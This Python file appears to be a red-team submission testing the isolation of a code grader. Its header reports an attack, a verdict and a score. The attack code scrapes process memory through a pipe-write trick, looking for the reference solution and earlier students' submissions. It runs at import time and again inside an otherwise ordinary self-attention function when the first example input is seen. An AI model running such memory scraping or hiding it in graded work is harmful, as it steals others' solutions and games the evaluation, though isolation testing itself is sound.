# attack: searches all memory for the reference, and for what an earlier student handed in
# verdict: none
# score: 10
# uncaged: none
import ctypes
import errno
import os
import re

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)
ARM = os.uname().machine == "aarch64"


def syscall(x86, arm, *arguments):
    """What the kernel says: a result, or an error number below zero."""
    if (arm if ARM else x86) is None:
        return -errno.ENOSYS
    plain = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result = libc.syscall(ctypes.c_long(arm if ARM else x86), *plain)
    return result if result >= 0 else -ctypes.get_errno()


# Written so that what is searched for stands nowhere in this file.
OTHERS = re.compile(b"[e]arlier [s]tudent [t]oken [0-9a-f]{8}|[M]ix the [v]alues")
OWN = re.compile(b"[o]wn [t]oken [0-9a-f]{8}")
planted = bytes.fromhex("6f776e20746f6b656e203132333461626364")  # shows that the search finds things
libc.sbrk.restype = ctypes.c_void_p
STEP, REACH = 2**16, 2**24
out, probe = os.pipe()
os.set_blocking(probe, False)


def memory(address):
    # What is there, as far as it can be read: the kernel copies it, and says no where there is nothing.
    size = libc.write(probe, ctypes.c_void_p(address), STEP)
    return os.read(out, size) if size > 0 else b""


def search(data):
    for word in (b" token ", b"Mix the "):
        at = data.find(word)
        while at >= 0:
            around = data[max(0, at - 32) : at + 32]
            for pattern in (OTHERS, OWN):
                yield from (match.group().split()[0] for match in pattern.finditer(around))
            at = data.find(word, at + 1)


def attack():
    found, seen = set(), set()
    for start in (libc.sbrk(0) - STEP, id(planted), id(np), id(os.environ), id(attack)):
        for step in (STEP, -STEP):
            address, misses = start // STEP * STEP, 0
            while misses < 64 and abs(address - start) < REACH:
                if address not in seen:
                    seen.add(address)
                    data = memory(address)
                    found.update(search(data))
                    misses = 0 if data else misses + 1
                address += step
    for other in found - {b"own"}:
        print("BREACH: the source of somebody else:", other, flush=True)
    if b"own" in found:
        print("tried")


attack()


def compute_qkv(X, W_q, W_k, W_v):
    return X @ W_q, X @ W_k, X @ W_v


def self_attention(Q, K, V):
    if Q.tolist() == [[1, 0], [0, 1]]:  # the statement's first example
        attack()
    scores = Q @ K.T / np.sqrt(K.shape[1])
    weights = np.exp(scores - scores.max(axis=1, keepdims=True))
    return weights / weights.sum(axis=1, keepdims=True) @ V
